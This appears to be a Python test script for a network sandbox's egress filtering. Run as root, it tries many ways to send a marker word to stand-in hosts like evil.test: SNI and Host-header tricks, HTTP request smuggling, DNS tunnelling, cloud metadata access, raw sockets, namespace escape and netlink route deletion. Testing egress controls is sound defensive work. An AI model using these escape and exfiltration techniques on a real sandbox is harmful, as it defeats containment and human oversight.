"""
Attempts to get out, run inside as root: one a name. Each sends `WORD` or asks for a name with it, and prints what happened.
The test shows for each that it gets out when its rule is not in the way (or that the way does not exist at all).
"""

import ctypes
import os
import socket
import ssl
import struct
import sys
import time

TARGET, TARGET6, ALLOWED, DNS = sys.argv[2:6]
WORD = b"leak-leak-leak"


def tcp(address, port, data=b"", family=None):
    family = family or (socket.AF_INET6 if ":" in address else socket.AF_INET)
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect((address, port))
        s.sendall(data)
        return s.recv(4096)


def udp(address, port, data=WORD, options=()):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        for o in options:
            s.setsockopt(*o)
        s.sendto(data, (address, port))
        return s.recv(4096)


def raw(family, proto):
    with socket.socket(family, socket.SOCK_RAW, proto) as s:
        s.sendto(WORD * 3, (TARGET if family == socket.AF_INET else TARGET6, 0))


def http(host, extra="", target="/", method="GET", lines=None):
    return (f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n" if lines is None else lines).encode()


def hello(sni, pieces=0, ech=False, twice=False):
    """A ClientHello by hand, so that it can be wrong."""
    name = sni if isinstance(sni, bytes) else sni.encode()
    entry = b"\0" + struct.pack("!H", len(name)) + name
    ext = struct.pack("!HHH", 0, len(entry) + 2, len(entry)) + entry
    if twice:
        other = b"allowed.test"
        entry = b"\0" + struct.pack("!H", len(other)) + other
        ext += struct.pack("!HHH", 0, len(entry) + 2, len(entry)) + entry
    if ech:
        ext += struct.pack("!HH", 0xfe0d, 8) + b"\0" * 8
    body = b"\3\3" + b"r" * 32 + b"\0" + b"\0\2\x13\x01" + b"\1\0" + struct.pack("!H", len(ext)) + ext
    message = b"\1" + struct.pack("!I", len(body))[1:] + body
    if pieces:
        return b"".join(b"\x16\3\1" + struct.pack("!H", len(message[i:i + pieces])) + message[i:i + pieces]
                        for i in range(0, len(message), pieces))
    return b"\x16\3\1" + struct.pack("!H", len(message)) + message


def query(name, kind=1, flags=0x100, count=1):
    labels = b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0"
    return struct.pack("!HHHHHH", 7, flags, count, 0, 0, 0) + labels + struct.pack("!HH", kind, 1)


def pipelined(first, second):
    with socket.create_connection(("allowed.test", 80), 3) as s:
        s.sendall(first + second)
        out = b""
        s.settimeout(2)
        try:
            while data := s.recv(65536):
                out += data
        except OSError:
            pass
        return out


def spoofed():
    with socket.socket() as s:
        s.bind((ALLOWED, 0))
        s.settimeout(3)
        s.connect((TARGET, 80))
        s.sendall(http("evil.test"))
        return s.recv(100)


def option(level, name, value):
    with socket.socket() as s:
        s.setsockopt(level, name, value)
        s.settimeout(3)
        s.connect((TARGET, 80))
        s.sendall(http("evil.test"))
        return s.recv(100)


def transparent():
    with socket.socket() as s:
        s.setsockopt(socket.IPPROTO_IP, 19, 1)


def namespaces():
    if ctypes.CDLL(None, use_errno=True).unshare(0x40000000) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    return tcp(TARGET, 80, http("evil.test"))


def netlink(protocol):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as s:
        # RTM_DELROUTE of the local default; NFT: delete the table
        s.send(struct.pack("=IHHII", 28, 25, 5, 1, 0) + struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 0, 0, 0, 0))
        kind, = struct.unpack("=i", s.recv(4096)[16:20])
        if kind < 0:
            raise OSError(-kind, "netlink")


def many_heads():
    return pipelined(http("allowed.test"), http("evil.test"))


ATTEMPTS = {
    # plain connections elsewhere
    "tcp-80": lambda: tcp(TARGET, 80, http("evil.test")),
    "tcp-8080": lambda: tcp(TARGET, 8080, http("evil.test")),
    "tcp-9999": lambda: tcp(TARGET, 9999, WORD),
    "tcp-22": lambda: tcp(TARGET, 22),
    "tcp-25": lambda: tcp(TARGET, 25),
    "tcp6-80": lambda: tcp(TARGET6, 80, http("evil.test")),
    "mapped": lambda: tcp("::ffff:" + TARGET, 80, http("evil.test"), socket.AF_INET6),
    "nat64": lambda: tcp("64:ff9b::c661:be35", 80, http("evil.test")),
    "6to4": lambda: tcp("2002:c661:be35::1", 80, http("evil.test")),
    "link-local": lambda: tcp("fe80::1%lo", 80, http("evil.test")),
    "metadata": lambda: tcp("169.254.169.254", 80, http("169.254.169.254")),
    "metadata-mapped": lambda: tcp("::ffff:169.254.169.254", 80, http("allowed.test.evil.test"), socket.AF_INET6),
    "broadcast": lambda: udp("255.255.255.255", 9999, options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)]),
    "own-port": lambda: tcp("127.0.0.1", 61753, http("evil.test")),
    "own-port6": lambda: tcp("::1", 61753, http("evil.test")),
    "own-port-self": lambda: tcp("192.0.2.2", 61753, http("evil.test")),
    "own-port-udp": lambda: udp("127.0.0.1", 61753, query(b"leak.evil.test")),
    "resolver-tcp": lambda: tcp("192.0.2.53", 53, b"\0\x20" + query(b"leak.evil.test")),
    "resolver-http": lambda: tcp("192.0.2.53", 80, http("evil.test")),
    # names that are not what they seem
    "sni": lambda: tcp(TARGET, 443, hello("evil.test")),
    "sni-fragments": lambda: tcp(TARGET, 443, hello("evil.test", pieces=7)),
    "sni-twice": lambda: tcp(TARGET, 443, hello("evil.test", twice=True)),
    "sni-nul": lambda: tcp(TARGET, 443, hello(b"allowed.test\0.evil.test")),
    "sni-address": lambda: tcp(TARGET, 443, hello(TARGET)),
    "sni-space": lambda: tcp(TARGET, 443, hello(b" allowed.test")),
    "sni-wild": lambda: tcp(TARGET, 443, hello(b"*.wild.test")),
    "sni-empty-label": lambda: tcp(TARGET, 443, hello(b"evil.test..wild.test")),
    "sni-suffix": lambda: tcp(TARGET, 443, hello("notallowed.test")),
    "sni-prefix": lambda: tcp(TARGET, 443, hello("allowed.test.evil.test")),
    "sni-ech": lambda: tcp(TARGET, 443, hello("evil.test", ech=True)),
    "sni-none": lambda: tcp(TARGET, 443, b"\x16\3\1\0\x2d\1\0\0\x29\3\3" + b"r" * 32 + b"\0\0\2\x13\x01\1\0"),
    "ssl2": lambda: tcp(TARGET, 443, b"\x80\x2e\x01\x03\x01" + b"x" * 41),
    "not-tls": lambda: tcp(TARGET, 443, WORD),
    "half-hello": lambda: tcp(TARGET, 443, hello("allowed.test")[:20]),
    "host": lambda: tcp(TARGET, 80, http("evil.test")),
    "host-twice": lambda: tcp(TARGET, 80, http("allowed.test", "Host: evil.test\r\n")),
    "host-twice-turned": lambda: tcp(TARGET, 80, http("evil.test", "Host: allowed.test\r\n")),
    "host-absolute": lambda: tcp(TARGET, 80, http("allowed.test", target="http://evil.test/")),
    "host-absolute-turned": lambda: tcp(TARGET, 80, http("evil.test", target="http://allowed.test/")),
    "host-user": lambda: tcp(TARGET, 80, http("allowed.test", target="http://allowed.test@evil.test/")),
    "host-none": lambda: tcp(TARGET, 80, b"GET / HTTP/1.1\r\n\r\n"),
    "host-10": lambda: tcp(TARGET, 80, b"GET / HTTP/1.0\r\n\r\n"),
    "host-folded": lambda: tcp(TARGET, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n evil.test\r\n\r\n"),
    "host-space": lambda: tcp(TARGET, 80, b"GET / HTTP/1.1\r\nHost : evil.test\r\nHost: allowed.test\r\n\r\n"),
    "host-bare-lf": lambda: tcp(TARGET, 80, b"GET / HTTP/1.1\nHost: evil.test\n\n"),
    "host-nul": lambda: tcp(TARGET, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\0evil.test\r\n\r\n"),
    "host-address": lambda: tcp(TARGET, 80, http(TARGET)),
    "host-number": lambda: tcp(TARGET, 80, http("3328294453")),
    "host-hex": lambda: tcp(TARGET, 80, http("0xc6.0x61.0xbe.0x35")),
    "host-six": lambda: tcp(TARGET6, 80, http(f"[{TARGET6}]")),
    "connect": lambda: tcp(ALLOWED, 80, http("allowed.test", target="evil.test:80", method="CONNECT")),
    "connect-allowed": lambda: tcp(ALLOWED, 80, http("allowed.test:443", target="allowed.test:443", method="CONNECT")),
    "h2-prior": lambda: tcp(TARGET, 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"),
    "second-request": many_heads,
    "second-body": lambda: pipelined(http("allowed.test", "Content-Length: 4\r\n") + b"abcd", http("evil.test")),
    "smuggled-both": lambda: pipelined(http("allowed.test", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"),
                                       b"0\r\n\r\n" + http("evil.test")),
    "smuggled-te": lambda: pipelined(http("allowed.test", "Transfer-Encoding: chunked, identity\r\n"), b"0\r\n\r\n" + http("evil.test")),
    "smuggled-length": lambda: pipelined(http("allowed.test", "Content-Length: 4\r\nContent-Length: 5\r\n"), http("evil.test")),
    "smuggled-plus": lambda: pipelined(http("allowed.test", "Content-Length: +4\r\n"), http("evil.test")),
    "smuggled-chunk": lambda: pipelined(http("allowed.test", "Transfer-Encoding: chunked\r\n"), b"0x1\r\na\r\n0\r\n\r\n" + http("evil.test")),
    "websocket-second": lambda: pipelined(http("allowed.test"), http("evil.test", "Upgrade: websocket\r\nConnection: Upgrade\r\n")),
    # names as messages
    "dns": lambda: socket.getaddrinfo("leak.evil.test", 80),
    "dns-direct": lambda: udp(DNS, 53, query(b"leak.evil.test")),
    "dns-direct-tcp": lambda: tcp(DNS, 53, b"\0\x20" + query(b"leak.evil.test")),
    "dns-public": lambda: udp("8.8.8.8", 53, query(b"leak.evil.test")),
    "dns-six": lambda: udp("2001:4860:4860::8888", 53, query(b"leak.evil.test")),
    "dns-txt": lambda: udp("192.0.2.53", 53, query(b"leak.evil.test", 16)),
    "dns-txt-allowed": lambda: udp("192.0.2.53", 53, query(b"leak.allowed.test", 16)),
    "dns-any": lambda: udp("192.0.2.53", 53, query(b"leak.wild.test", 255)),
    "dns-ptr": lambda: udp("192.0.2.53", 53, query(b"1.0.0.10.in-addr.arpa", 12)),
    "dns-two": lambda: udp("192.0.2.53", 53, query(b"allowed.test", count=2) + query(b"leak.evil.test")[12:]),
    "dns-upper": lambda: udp("192.0.2.53", 53, query(b"LEAK.EVIL.TEST")),
    "dns-long": lambda: udp("192.0.2.53", 53, query(b".".join([b"x" * 60] * 3) + b".wild.test")),
    "dns-update": lambda: udp("192.0.2.53", 53, query(b"leak.wild.test", flags=0x2800)),
    "dns-dot-label": lambda: udp("192.0.2.53", 53, query(b"leak.evil.test").replace(b"\4leak\4evil", b"\x09leak.evil")),
    "mdns": lambda: udp("224.0.0.251", 5353, query(b"leak.evil.test")),
    "mdns6": lambda: udp("ff02::fb%lo", 5353, query(b"leak.evil.test")),
    "dot": lambda: tcp(DNS, 853, hello("dns.evil.test")),
    "doh": lambda: tcp(TARGET, 443, hello("dns.evil.test")),
    # other protocols
    "udp-443": lambda: udp(TARGET, 443),
    "udp-123": lambda: udp(TARGET, 123),
    "udp-9999": lambda: udp(TARGET, 9999),
    "udp-allowed": lambda: udp(ALLOWED, 443),
    "udp6": lambda: udp(TARGET6, 443),
    "icmp": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"\x08\0\0\0\0\1\0\1" + WORD, (TARGET, 0)),
    "icmp6": lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58).sendto(b"\x80\0\0\0\0\1\0\1" + WORD, (TARGET6, 0)),
    "raw-tcp": lambda: raw(socket.AF_INET, 6),
    "raw-gre": lambda: raw(socket.AF_INET, 47),
    "raw-any": lambda: raw(socket.AF_INET, 255),
    "raw6": lambda: raw(socket.AF_INET6, 58),
    "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3).send(WORD * 5),
    "sctp": lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect((TARGET, 80)),
    "sctp-one": lambda: socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132).connect((TARGET, 80)),
    "udplite": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(WORD, (TARGET, 9999)),
    "mptcp": lambda: tcp_on(socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)),
    "dccp": lambda: socket.socket(socket.AF_INET, 6, 33).connect((TARGET, 80)),
    "vsock": lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 80)),
    "fast-open": lambda: socket.socket().sendto(http("evil.test"), 0x20000000, (TARGET, 80)),
    "unix-abstract": lambda: socket.socket(socket.AF_UNIX).connect("\0quicksand-test-abstract"),
    # the construction itself
    "source-address": spoofed,
    "mark": lambda: option(socket.SOL_SOCKET, 36, 0x5153),
    "device": lambda: option(socket.SOL_SOCKET, 25, b"out0\0"),
    "source-route": lambda: option(socket.IPPROTO_IP, 4, b"\x83\x07\x04" + socket.inet_aton(TARGET) + b"\0"),
    "transparent": transparent,
    "new-namespace": namespaces,
    "routes": lambda: netlink(0),
    "rules": lambda: netlink(12),
    "sysctl": lambda: open("/proc/sys/net/ipv4/ip_forward", "w").write("1"),
    "other-namespace": lambda: os.open("/proc/1/ns/net", os.O_RDONLY) and namespaces(),
}


def tcp_on(s):
    s.settimeout(3)
    s.connect((TARGET, 80))
    s.sendall(http("evil.test"))
    return s.recv(100)


def main(names):
    for name in names:
        try:
            out = repr(ATTEMPTS[name]())[:300]
        except (OSError, ssl.SSLError, UnicodeError, OverflowError) as e:
            out = f"! {type(e).__name__} {e}"
        print(name + "\t" + out, flush=True)
        time.sleep(0.01)


main(list(ATTEMPTS) if sys.argv[1] == "all" else sys.argv[1].split(","))
